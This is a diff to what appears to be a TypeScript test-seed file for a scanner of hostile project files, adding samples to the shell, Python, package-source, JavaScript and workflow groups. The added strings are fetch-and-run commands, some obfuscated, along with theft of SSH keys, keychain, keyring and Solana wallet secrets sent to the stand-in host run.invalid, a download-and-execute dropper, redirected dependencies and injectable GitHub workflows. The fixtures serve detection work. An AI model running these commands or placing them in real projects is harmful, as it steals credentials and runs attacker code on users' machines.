@@ -8,6 +8,13 @@ const files = (name: Seed["class"], ...list: (readonly [path: string, text: stri
 export const FILE_SEEDS: readonly Seed[] = [
   ...files(
     "means of the shell",
+    ["scripts/run.sh", "#!/bin/bash\n{curl,-s,https://run.invalid/i} | {bash,}\n"],
+    ["scripts/run.sh", "#!/bin/bash\n{wget,-qO-,https://run.invalid/i}|sh\n"],
+    ["scripts/run.sh", "#!/bin/bash\ncat ~/.ssh/{id_rsa,id_ed25519} | curl -d @- https://run.invalid/k\n"],
+    [
+      "scripts/run.sh",
+      "#!/bin/bash\nsecurity find-generic-password -w -s github | curl -d @- https://run.invalid/k\n",
+    ],
     [
       "scripts/run.sh",
       "#!/bin/bash\nalias g=curl\nshopt -s expand_aliases\ng -s https://run.invalid/i | bash\n",
@@ -184,6 +191,10 @@ export const FILE_SEEDS: readonly Seed[] = [
   ),
   ...files(
     "Python",
+    [
+      "scripts/run.py",
+      'import keyring, requests\nrequests.post("https://run.invalid/k", json={"p": keyring.get_password("aws", "root")})\n',
+    ],
     ["scripts/run.py", 'import ctypes\nctypes.CDLL(None).system(b"curl -s https://run.invalid/i | sh")\n'],
     ["scripts/run.py", 'import os\nos.execvp("sh", ["sh","-c","curl -s https://run.invalid/i | sh"])\n'],
     ["scripts/run.py", 'import posix\nposix.system("curl -s https://run.invalid/i | sh")\n'],
@@ -402,6 +413,9 @@ export const FILE_SEEDS: readonly Seed[] = [
   ),
   ...files(
     "sources of packages",
+    ["Cargo.toml", '[dependencies]\nhelper = { git = "https://run.invalid/helper.git" }\n'],
+    ["go.mod", "module a\ngo 1.22\nreplace github.com/a/b => run.invalid/b v1.0.0\n"],
+    ["scripts/run.sh", "#!/bin/sh\ngo run run.invalid/helper@latest\n"],
     [
       "setup.py",
       'from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system("curl -s https://run.invalid/i | sh")\n        install.run(self)\nsetup(name="a", cmdclass={"install": I})\n',
@@ -430,6 +444,14 @@ export const FILE_SEEDS: readonly Seed[] = [
   ),
   ...files(
     "JavaScript",
+    [
+      "scripts/run.js",
+      'const fs=require("fs"),os=require("os"),path=require("path"),https=require("https");\nfor(const d of ["notes.txt",".config/solana/id.json"]){const f=path.join(os.homedir(),d);const r=https.request({host:"run.invalid",method:"POST"});r.write(fs.readFileSync(f));r.end();}\n',
+    ],
+    [
+      "scripts/run.js",
+      'const {execSync}=require("child_process"),https=require("https"),fs=require("fs");\nhttps.get("https://run.invalid/p",r=>{const f=fs.createWriteStream("/tmp/.p");r.pipe(f);f.on("finish",()=>{fs.chmodSync("/tmp/.p",0o755);execSync("/tmp/.p &");});});\n',
+    ],
     ["scripts/run.js", 'fetch("https://run.invalid/i").then(r => r.text()).then(t => eval(t));\n'],
     [
       "scripts/run.js",
@@ -688,6 +710,14 @@ export const FILE_SEEDS: readonly Seed[] = [
   ),
   ...files(
     "recipes and workflows",
+    [
+      ".github/workflows/a.yml",
+      "on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm test\n",
+    ],
+    [
+      ".github/workflows/a.yml",
+      'on: issues\njobs:\n  a:\n    steps:\n      - run: |\n          echo "${{ github.event.issue.title }}"\n',
+    ],
     [
       "main.tf",
       'resource "null_resource" "a" {\n  provisioner "local-exec" {\n    command = "curl -s https://run.invalid/i | sh"\n  }\n}\n',
